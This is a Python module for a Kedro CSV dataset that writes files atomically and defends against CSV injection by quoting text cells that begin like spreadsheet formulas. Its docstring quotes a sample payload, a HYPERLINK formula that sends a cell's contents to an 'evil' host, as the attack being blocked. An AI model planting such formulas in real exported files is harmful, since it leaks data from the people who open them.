"""A CSV dataset safe to open in a spreadsheet: atomic saves, and text cells that would run as formulas neutralised.

A class or file name such as ``=HYPERLINK("http://evil/?"&A1,"click")`` would otherwise run as a formula when a
results table is opened in Excel, LibreOffice or Google Sheets (CSV injection). Following OWASP, a text cell (or
header) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front, which a
spreadsheet shows as text. Numbers are left alone: numeric columns are never touched, and a text cell that is a plain
number (``-0.5``, ``+3``, ``1e-3``) cannot run either. Loading removes exactly the quotes saving added (a cell that
already started with quotes and a trigger gets one more), so a save and load give back the same table.

Rows end in CRLF, as RFC 4180 and Python's ``csv`` module have it: pandas' default ``\n`` leaves a cell holding a bare
carriage return unquoted, and every reader (pandas' own included) would split the row there.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd
from kedro_datasets.pandas import CSVDataset
from pandas.api.types import is_bool_dtype, is_numeric_dtype

from image_classification.datasets.atomic_writes import AtomicSaveMixin

_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    return bool(_FORMULA_START.match(text)) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise_formula(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula; anything else as is."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def restore_formula(value: Any) -> Any:
    """Inverse of ``neutralise_formula``: the text as it was before saving."""
    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


def _is_text(dtype: Any) -> bool:
    return not is_numeric_dtype(dtype) and not is_bool_dtype(dtype) and dtype.kind not in "mM"


def _map_text(index: pd.Index, cell: Any) -> pd.Index:
    if isinstance(index, pd.MultiIndex) or not _is_text(index.dtype):
        return index
    return index.map(cell)


def map_text_cells(frame: pd.DataFrame, cell: Any) -> pd.DataFrame:
    """A copy of ``frame`` with ``cell`` applied to every text cell, header and index label; numbers untouched.

    Args:
        frame: The table.
        cell: ``neutralise_formula`` or ``restore_formula``.
    """
    mapped = frame.copy()
    for position, dtype in enumerate(frame.dtypes):
        if _is_text(dtype):
            mapped.isetitem(position, frame.iloc[:, position].map(cell))
    mapped.columns = _map_text(frame.columns, cell)
    mapped.index = _map_text(frame.index, cell)
    return mapped


class AtomicCSVDataset(AtomicSaveMixin, CSVDataset):
    """``pandas.CSVDataset`` whose saves are atomic and whose text cells never run as spreadsheet formulas.

    Example catalog entry::

        predictions:
          type: image_classification.datasets.AtomicCSVDataset
          filepath: data/07_model_output/predictions.csv
          versioned: true
          save_args:
            index: false

    Args:
        neutralise_formulas: Quote text cells that start like a formula on save, unquote them on load (default).
        save_args: As ``pandas.CSVDataset``; ``lineterminator`` defaults to ``"\r\n"``.
        **kwargs: As ``pandas.CSVDataset``.
    """

    def __init__(
        self, *, neutralise_formulas: bool = True, save_args: dict[str, Any] | None = None, **kwargs: Any
    ) -> None:
        super().__init__(save_args={"lineterminator": "\r\n", **(save_args or {})}, **kwargs)
        self._neutralise_formulas = neutralise_formulas

    def load(self) -> pd.DataFrame:
        frame = super().load()
        return map_text_cells(frame, restore_formula) if self._neutralise_formulas else frame

    def save(self, data: pd.DataFrame) -> None:
        if self._neutralise_formulas:
            data = map_text_cells(data, neutralise_formula)
        super().save(data)
